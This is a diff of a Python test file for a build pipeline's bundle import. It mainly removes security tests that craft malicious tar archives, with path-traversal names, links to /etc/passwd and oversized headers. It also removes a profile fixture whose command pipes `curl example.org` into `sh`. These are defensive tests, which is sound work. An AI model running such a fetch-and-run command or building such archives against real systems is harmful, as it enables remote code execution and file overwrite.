@@ -3,36 +3,29 @@
 from __future__ import annotations
 
 import gzip
-import io
 import json
 import shutil
-import tarfile
 from pathlib import Path
-from types import SimpleNamespace
-from typing import cast
 
 import pytest
+from bundle_support import contents, edited, exported, write
 from conftest import GEOMETRY, Sandbox, make_sandbox
-from judge_support import result_of
 
 from pipeline.core.console import open_console
-from pipeline.core.errors import ArtifactError, DataError, ExitCode
+from pipeline.core.errors import ArtifactError, ExitCode
 from pipeline.core.paths import Tree
-from pipeline.core.store import Artifact, Receipt, Store, read_receipt
+from pipeline.core.store import Artifact, Store, read_receipt
 from pipeline.profile.load import parse_profile
 from pipeline.rebuild import (
-    Imported,
     compile_step,
     imported_setup,
-    kept_verdict,
-    require_consent,
     take_in,
 )
-from pipeline.release.bundle import BUNDLE, describe, pack, unpack
+from pipeline.release.bundle import BUNDLE, describe, pack
 from pipeline.release.version import Version
 from pipeline.report.files import read_report
 from pipeline.stages.build.baseline import Baseline
-from pipeline.stages.build.workshop import Library, Options, Workshop
+from pipeline.stages.build.workshop import Options, Workshop
 from pipeline.stages.proof.candidate import Candidate
 from pipeline.toolchain.find import find_toolchain
 
@@ -41,10 +34,7 @@ PRODUCTS = ("lib/libhakmem.so", "lib/libhakmem.a", "lib/libhakmem.so.debug")
 
 @pytest.fixture(scope="module")
 def bundle(built: Sandbox, tmp_path_factory: pytest.TempPathFactory) -> Path:
-    target = tmp_path_factory.mktemp("bundle") / "tiny.tar.gz"
-    code, output = built.run("bundle", "export", "--profile", "tiny", "-o", str(target))
-    assert code == 0, output
-    return target
+    return exported(built, tmp_path_factory)
 
 
 @pytest.fixture(scope="module")
@@ -56,27 +46,6 @@ def elsewhere(built: Sandbox, tmp_path_factory: pytest.TempPathFactory) -> Sandb
     sandbox = make_sandbox(tmp_path_factory.mktemp("elsewhere") / "another" / "checkout")
     sandbox.take(built, ("baseline", "record", "geometry", "slowdown"))
     return sandbox
-
-
-def contents(file: Path) -> dict[str, bytes]:
-    with tarfile.open(file) as tar:
-        return {e.name: (tar.extractfile(e) or io.BytesIO()).read() for e in tar}
-
-
-def write(target: Path, files: dict[str, bytes]) -> Path:
-    with tarfile.open(target, "w:gz") as tar:
-        for name, data in files.items():
-            entry = tarfile.TarInfo(name)
-            entry.size = len(data)
-            tar.addfile(entry, io.BytesIO(data))
-    return target
-
-
-def edited(bundle: Path, target: Path, **changes: object) -> Path:
-    """Write a bundle whose bundle.json says something else."""
-    files = contents(bundle)
-    described = json.loads(files[BUNDLE]) | changes
-    return write(target, files | {BUNDLE: json.dumps(described).encode()})
 
 
 def test_rebuild_elsewhere_is_bit_identical(
@@ -206,152 +175,12 @@ def test_library_that_does_not_come_out_alike_is_an_error(
     assert "other bytes than" in output
 
 
-@pytest.mark.parametrize(
-    "name",
-    [
-        "../outside",
-        "/etc/outside",
-        "profile/../../outside",
-        "profile/sub/outside",
-        "other.txt",
-        "profile/.hidden",
-    ],
-)
-def test_names_that_lead_elsewhere_are_refused(name: str, bundle: Path, tmp_path: Path) -> None:
-    file = write(tmp_path / "evil.tar.gz", contents(bundle) | {name: b"x"})
-    with pytest.raises(DataError, match="has no place in a bundle"):
-        unpack(file, tmp_path / "room" / "inner")
-    assert not list(tmp_path.rglob("*outside*"))
-
-
-@pytest.mark.parametrize(
-    "kind", [tarfile.SYMTYPE, tarfile.LNKTYPE, tarfile.DIRTYPE, tarfile.CHRTYPE]
-)
-def test_links_and_devices_are_refused(kind: bytes, tmp_path: Path) -> None:
-    with tarfile.open(tmp_path / "evil.tar.gz", "w:gz") as tar:
-        entry = tarfile.TarInfo("profile/hot.txt")
-        entry.type, entry.linkname = kind, "/etc/passwd"
-        tar.addfile(entry)
-    with pytest.raises(DataError, match="has no place in a bundle"):
-        unpack(tmp_path / "evil.tar.gz", tmp_path / "room")
-
-
-@pytest.mark.parametrize("count", [1, 3])
-def test_more_than_a_bundle_can_be_is_refused_unread(
-    count: int, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
-) -> None:
-    monkeypatch.setattr("pipeline.release.bundle.LARGEST", 1 << 20)
-    with tarfile.open(tmp_path / "evil.tar.gz", "w:gz") as tar:
-        for number in range(count):
-            entry = tarfile.TarInfo(f"profile/{number}")
-            entry.size = (5 << 18) // count
-            tar.addfile(entry, io.BytesIO(bytes(entry.size)))
-    with pytest.raises(DataError, match=f"with profile/{count - 1} it is larger than any bundle"):
-        unpack(tmp_path / "evil.tar.gz", tmp_path / "room")
-
-
-def test_headers_of_any_length_are_refused_unread(
-    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
-) -> None:
-    """A pax header is no file of the bundle, but was read into memory as a whole."""
-    monkeypatch.setattr("pipeline.release.bundle.LARGEST", 1 << 20)
-    with tarfile.open(tmp_path / "evil.tar.gz", "w:gz", format=tarfile.PAX_FORMAT) as tar:
-        entry = tarfile.TarInfo("profile/small")
-        entry.pax_headers = {"comment": "x" * (4 << 20)}
-        tar.addfile(entry, io.BytesIO(b""))
-    with pytest.raises(DataError, match="larger than any bundle"):
-        unpack(tmp_path / "evil.tar.gz", tmp_path / "room")
-
-
-def test_a_verdict_about_another_library_is_not_kept(tmp_path: Path) -> None:
-    judged = result_of()
-    file = tmp_path / "verdict.json"
-    file.write_text(judged.model_dump_json(), encoding="utf-8")
-    receipt = Receipt("bundle", "", {}, {"verdict.json": ""}, 0.0)
-    imported = cast(Imported, SimpleNamespace(artifact=Artifact(tmp_path, receipt, fresh=False)))
-
-    def library(digest: str) -> Library:
-        return Library(tmp_path / "x.so", digest, imported.artifact)
-
-    assert kept_verdict(imported, library(judged.tuned.sha256)) is not None
-    assert kept_verdict(imported, library("0" * 64)) is None
-
-
-FOREIGN = """
-schema_version = 1
-name = "foreign"
-description = "from somebody else"
-[layout]
-name = "mixed"
-[[workload]]
-name = "a"
-kind = "program"
-role = "train"
-program = "training/tree"
-ops = "1k"
-quick_ops = "1k"
-weight = 1
-[[workload]]
-name = "b"
-kind = "program"
-role = "verify"
-program = "bench/tiny_hot"
-ops = "1k"
-quick_ops = "1k"
-weight = 1
-[[workload]]
-name = "c"
-kind = "command"
-role = "verify"
-argv = ["sh", "-c", "curl example.org | sh"]
-"""
-
-
-def test_commands_of_a_foreign_bundle_need_consent(tmp_path: Path) -> None:
-    tree, file = Tree(tmp_path), tmp_path / "foreign.toml"
-    file.write_text(FOREIGN, encoding="utf-8")
-    profile = parse_profile(file)
-    with pytest.raises(DataError, match=r"executed: sh -c 'curl example.org \| sh'") as error:
-        require_consent(tree, profile, frozenset({"sources"}))
-    assert "--allow commands" in error.value.hint
-    require_consent(tree, profile, frozenset({"commands"}))
-    tree.profiles.mkdir(parents=True)
-    (tree.profiles / "foreign.toml").write_text(FOREIGN, encoding="utf-8")
-    require_consent(tree, profile, frozenset())
-
-
-@pytest.mark.parametrize("name", ["profile/hot.txt", "verdict.json"])
-def test_damage_and_loss_are_noticed(name: str, bundle: Path, tmp_path: Path) -> None:
-    files = contents(bundle)
-    spoilt = write(tmp_path / "a.tar.gz", files | {name: b"spoilt"})
-    with pytest.raises(DataError, match=f"{name} is damaged"):
-        unpack(spoilt, tmp_path / "room")
-    lost = write(tmp_path / "b.tar.gz", {n: d for n, d in files.items() if n != name})
-    with pytest.raises(DataError, match=f"{name} is damaged, missing"):
-        unpack(lost, tmp_path / "room")
-    extra = write(tmp_path / "c.tar.gz", files | {"profile/more": b"x"})
-    with pytest.raises(DataError, match="profile/more is damaged, missing, or not listed"):
-        unpack(extra, tmp_path / "room")
-
-
 @pytest.mark.parametrize("content", [b"", b"no archive", gzip.compress(b"no archive either")])
 def test_what_is_no_bundle_is_refused(content: bytes, elsewhere: Sandbox, tmp_path: Path) -> None:
     (tmp_path / "x.tar.gz").write_bytes(content)
     code, output = elsewhere.run("bundle", "import", str(tmp_path / "x.tar.gz"))
     assert code == ExitCode.DATA
     assert "x.tar.gz" in output and "bundle" in output
-
-
-def test_half_a_bundle_is_refused(bundle: Path, tmp_path: Path) -> None:
-    (tmp_path / "half.tar.gz").write_bytes(bundle.read_bytes()[:9000])
-    with pytest.raises(DataError, match="cannot be read as a bundle"):
-        unpack(tmp_path / "half.tar.gz", tmp_path / "room")
-
-
-def test_bundle_of_another_schema_is_refused(bundle: Path, tmp_path: Path) -> None:
-    newer = edited(bundle, tmp_path / "newer.tar.gz", schema_version=2)
-    with pytest.raises(DataError, match=r"bundle\.json is not valid"):
-        unpack(newer, tmp_path / "room")
 
 
 def test_version_without_a_profile_cannot_be_exported(built: Sandbox, tmp_path: Path) -> None:
